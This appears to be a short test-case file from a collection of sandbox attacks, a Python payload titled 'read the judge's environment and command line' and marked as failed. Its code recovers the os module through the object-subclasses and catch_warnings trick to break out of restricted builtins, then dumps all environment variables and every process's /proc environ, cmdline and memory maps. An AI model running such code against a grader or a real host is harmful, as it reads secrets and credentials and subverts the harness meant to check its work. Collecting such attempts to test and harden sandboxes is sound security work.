# /// attack
# rows = [50]
# title = "read the judge's environment and command line"
# verdict = "failed"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

os = sys.modules["os"]
print(dict(os.environ))
for number in os.listdir("/proc"):
    for what in ("environ", "cmdline", "maps"):
        try:
            print(open(f"/proc/{number}/{what}").read())
        except OSError:
            pass
